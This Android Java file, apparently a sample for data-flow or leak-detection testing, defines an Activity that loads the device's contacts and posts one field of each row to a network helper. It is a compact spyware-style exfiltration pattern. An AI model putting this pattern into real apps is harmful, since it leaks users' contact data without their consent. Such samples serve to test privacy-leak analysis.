package org.example.flows.spy;

import android.app.Activity;
import android.app.LoaderManager;
import android.content.CursorLoader;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import org.example.flows.Net;

/** The address book, loaded by the system in the background. */
public class Loader extends Activity implements LoaderManager.LoaderCallbacks<Cursor> {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        getLoaderManager().initLoader(0, null, this);
    }

    @Override
    public android.content.Loader<Cursor> onCreateLoader(int id, Bundle given) {
        return new CursorLoader(this, ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
    }

    @Override
    public void onLoadFinished(android.content.Loader<Cursor> loader, Cursor rows) {
        while (rows.moveToNext()) {
            Net.post(rows.getString(1));
        }
    }

    @Override
    public void onLoaderReset(android.content.Loader<Cursor> loader) {
    }
}
